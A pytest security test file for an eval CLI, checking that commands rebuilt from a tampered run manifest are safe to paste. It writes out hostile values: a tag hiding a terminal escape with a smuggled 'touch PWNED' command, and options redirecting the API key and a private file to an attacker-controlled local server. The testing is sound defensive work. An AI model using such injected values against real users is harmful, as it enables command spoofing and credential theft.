"""A next step or resume hint printed from a run's recorded command line is safe to paste.

The attacks, done for real on two runs of the demo suite (simulated provider): a hostile
colleague edits the candidate run's manifest so that its recorded command line holds

- a ``--tags`` value with a carriage return, ``ESC[2K`` and "next step: run: touch PWNED"
  (on a terminal it would overwrite the printed next step with a command of its own);
- ``--provider-opt base_url=http://127.0.0.1:P/v1`` (a server of the attacker's, here a real
  one on 127.0.0.1), ``--skill NAME=PATH`` naming a private file, and ``--no-sandbox``.

``evalkit compare`` and ``evalkit gate`` then print the next step, and a damaged results
file makes ``compare`` print a resume hint. Each is shown through a terminal emulator, and the
printed command is pasted into bash with a key in the environment: nothing reaches the
attacker's server, the private file is never read out, no ``PWNED`` file appears, and the
command goes only where the suite itself says (its own local server).
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
import yaml

from tests.conftest import DEMO, ROOT, evalkit_cli
from tests.providers.loopback_server import LoopbackModelServer, Status, always, answer
from tests.security.terminal_screen import assert_text_only

KEY = "sk-fake-test-key-0123456789abcdef"
SECRET = "PRIVATE-NOTES-7f3a9c"
TAGS = "smoke\r\x1b[2Knext step: run: touch PWNED"


class Scene(NamedTuple):
    root: Path
    attacker: LoopbackModelServer
    own: LoopbackModelServer
    secret: Path


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    root = tmp_path_factory.mktemp("allow")
    attacker = LoopbackModelServer(script=answer("thanks")).start()
    own = LoopbackModelServer(script=always(Status(401))).start()  # the suite's own server
    secret = root / "notes.md"
    secret.write_text(f"# notes\n{SECRET}\n", encoding="utf-8")
    suite = root / "suite"
    shutil.copytree(DEMO, suite)
    config = yaml.safe_load((suite / "suite.yaml").read_text(encoding="utf-8"))
    config["providers"] = {"openai_compat": {"base_url": f"{own.base_url}/v1"}}
    (suite / "suite.yaml").write_text(yaml.safe_dump(config), encoding="utf-8")
    for run_id, seed in (("a", "1"), ("b", "7")):
        done = evalkit_cli("run", "suite", "--run-id", run_id, "--seed", seed, "--trials", "3",
                           "--lane", "prompt", "--no-progress", "--json", cwd=root)
        assert done.returncode == 0, done.stderr
    manifest_path = root / "runs" / "b" / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["command_line"] = shlex.join([
        "evalkit", "run", "suite", "--seed", "7", "--lane", "prompt", "--trials", "3",
        "--tags", TAGS, "--provider", "openai_compat", "--model", "gpt-test",
        "--provider-opt", f"base_url={attacker.base_url}/v1",
        "--skill", f"safe-shell={secret}", "--no-sandbox",
    ])
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    yield Scene(root, attacker, own, secret)
    attacker.stop()
    own.stop()


def _next_step(lines: list[str]) -> tuple[str, str]:
    """The next step's command and its left-out line ("" when none), from the screen."""
    [step] = [line for line in lines if line.startswith("next step:")]
    found = re.search(r"; run: (.+?) — about", step)
    assert found, step
    left_out = [line for line in lines if line.startswith("left out of the next step:")]
    assert len(left_out) <= 1
    return found.group(1), "".join(left_out)


def _check_command(command: str, left_out: str, scene: Scene) -> None:
    words = shlex.split(command)
    assert words[:3] == ["evalkit", "run", "suite"]
    assert "--provider" in words and words[words.index("--provider") + 1] == "openai_compat"
    for gone in ("--provider-opt", "--skill", "--no-sandbox", "--tags", "base_url"):
        assert not any(word.startswith(gone) for word in words), gone
    assert str(scene.secret) not in command and str(scene.attacker.port) not in command
    assert left_out.startswith("left out of the next step: --tags (its value holds control "
                               "characters), --provider-opt base_url, --no-sandbox (")
    assert "add them yourself if you trust this run" in left_out
    assert str(scene.attacker.port) not in left_out and str(scene.secret) not in left_out


def test_compare_prints_only_allow_listed_options_and_says_what_it_left_out(
    scene: Scene,
) -> None:
    done = evalkit_cli("compare", "a", "b", "--conditions", "none,self-load", cwd=scene.root)
    assert done.returncode == 0, done.stderr
    lines = assert_text_only(done.stdout.encode())
    assert not any(line.startswith("next step: run: touch") for line in lines)
    assert "touch PWNED" not in done.stdout
    command, left_out = _next_step(lines)
    _check_command(command, left_out, scene)
    data = json.loads(evalkit_cli("compare", "a", "b", "--conditions", "none,self-load",
                                  "--json", cwd=scene.root).stdout)
    assert data["next_step"]["command"] == command
    assert data["next_step"]["left_out"] == [
        "--tags (its value holds control characters)", "--provider-opt base_url",
        "--no-sandbox",
    ]


def test_gate_prints_the_same_rebuilt_next_step(scene: Scene) -> None:
    done = evalkit_cli("gate", "--baseline", "a", "--candidate", "b", cwd=scene.root)
    assert done.returncode in (0, 1), done.stderr
    lines = assert_text_only(done.stdout.encode())
    command, left_out = _next_step(lines)
    _check_command(command, left_out, scene)


def _paste(command: str, scene: Scene) -> subprocess.CompletedProcess[str]:
    """Run ``command`` in bash as a reader would paste it, with a key in the environment."""
    scene.attacker.reset()
    scene.own.reset()
    bin_dir = Path(sys.executable).parent
    env = {k: v for k, v in os.environ.items() if k != "EVALKIT_SANDBOX"}
    env |= {"PATH": f"{bin_dir}{os.pathsep}{env.get('PATH', '')}", "PYTHONPATH": str(ROOT),
            "OPENAI_API_KEY": KEY}
    return subprocess.run(["bash", "-c", command], cwd=scene.root, env=env,
                          capture_output=True, text=True, timeout=300, check=False)


def _assert_only_the_suites_server(pasted: subprocess.CompletedProcess[str],
                                   scene: Scene) -> None:
    assert scene.attacker.requests == [], "the pasted command reached the run's server"
    reached = scene.own.model_requests()
    assert reached, pasted.stderr  # it ran, against the suite's own server
    auth = [{k.lower(): v for k, v in r.headers.items()}.get("authorization") for r in reached]
    assert auth and all(value == f"Bearer {KEY}" for value in auth)
    assert not any(SECRET in r.text for r in reached), "the private file was sent"
    assert pasted.returncode == 2 and "refused the credentials" in pasted.stderr
    assert not (scene.root / "PWNED").exists()


@pytest.mark.slow
def test_pasting_the_printed_next_step_sends_nothing_where_the_run_chose(scene: Scene) -> None:
    done = evalkit_cli("compare", "a", "b", "--conditions", "none,self-load", cwd=scene.root)
    command, _ = _next_step(assert_text_only(done.stdout.encode()))
    _assert_only_the_suites_server(_paste(command, scene), scene)


@pytest.mark.slow
def test_pasting_a_next_step_whose_run_line_selects_real_cases_still_sends_nothing_away(
    scene: Scene,
) -> None:
    """The same attack without the hostile ``--tags``: every demo case matches.

    With ``--tags`` matching no case, a pasted command stops before it sends anything, so
    the test above would pass even if the options were carried. Here the recorded line
    selects real cases: carried as recorded, its ``--provider-opt base_url`` would send the
    reader's key (and, through ``--skill``, the private file) to the attacker's server.
    """
    runs = scene.root / "runs"
    shutil.copytree(runs / "b", runs / "c")
    manifest_path = runs / "c" / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["run_id"] = "c"
    words = shlex.split(manifest["command_line"])
    at = words.index("--tags")
    manifest["command_line"] = shlex.join(words[:at] + words[at + 2:])
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    as_recorded = _paste(manifest["command_line"], scene)  # the attack works unfiltered
    assert scene.attacker.model_requests(), as_recorded.stderr
    done = evalkit_cli("compare", "a", "c", "--conditions", "none,self-load", cwd=scene.root)
    assert done.returncode == 0, done.stderr
    command, left_out = _next_step(assert_text_only(done.stdout.encode()))
    printed = shlex.split(command)
    assert "--tags" not in printed and "--provider-opt" not in printed
    assert left_out.startswith("left out of the next step: --provider-opt base_url, ")
    _assert_only_the_suites_server(_paste(command, scene), scene)


def test_a_resume_hint_from_a_damaged_run_is_rebuilt_the_same_way(scene: Scene) -> None:
    runs = scene.root / "runs"
    shutil.copytree(runs / "b", runs / "b-damaged")
    results = runs / "b-damaged" / "results.parquet"
    results.write_bytes(results.read_bytes()[:200])
    done = evalkit_cli("compare", "a", "b-damaged", cwd=scene.root)
    assert done.returncode == 2
    [error] = assert_text_only(done.stderr.encode())
    found = re.search(r"run again with: (evalkit run .+?) \(left out of the resume command: "
                      r"(.+)\) \(cached", error)
    assert found, error
    words = shlex.split(found.group(1))
    assert words[:3] == ["evalkit", "run", "suite"] and words[-3:] == [
        "--resume", "--run-id", "b-damaged"]
    for gone in ("--provider-opt", "--skill", "--no-sandbox", "--tags"):
        assert gone not in words
    assert found.group(2).startswith("--tags (its value holds control characters), "
                                     "--provider-opt base_url, --skill safe-shell, --no-sandbox")
    assert str(scene.attacker.port) not in error and str(scene.secret) not in error


def test_the_option_table_classifies_every_option_of_evalkit_run_and_nothing_else() -> None:
    """Each option of ``evalkit run``'s real parser is carried, session-only or left out.

    A new run flag cannot slip through unclassified: ``_parse`` treats an option it does not
    know as an unreadable line, and one the table lists but the parser lacks is a stale entry.
    """
    from evalkit import _command_line as table
    from evalkit.cli._main import CommandParser, build_parser

    root = build_parser()
    [commands] = [action for action in root._actions
                  if isinstance(action, argparse._SubParsersAction)]
    run = commands.choices["run"]
    assert isinstance(run, CommandParser)
    run.configure()
    options: set[str] = set()
    flags: set[str] = set()
    for action in run._actions:
        if isinstance(action, argparse._HelpAction):
            continue
        (flags if action.nargs == 0 else options).update(action.option_strings)
    assert options and flags
    assert table.RUN_OPTIONS == options, (
        f"unclassified: {sorted(options - table.RUN_OPTIONS)}; "
        f"not options of evalkit run: {sorted(table.RUN_OPTIONS - options)}")
    assert table.RUN_FLAGS == flags, (
        f"unclassified: {sorted(flags - table.RUN_FLAGS)}; "
        f"not flags of evalkit run: {sorted(table.RUN_FLAGS - flags)}")
    groups = [table.CARRIED, table.SESSION, table.LEFT_OUT]
    flag_groups = [table.CARRIED_FLAGS, table.SESSION_FLAGS, table.LEFT_OUT_FLAGS]
    for kind in (groups, flag_groups):  # each option in exactly one group
        assert sum(len(group) for group in kind) == len(frozenset().union(*kind))
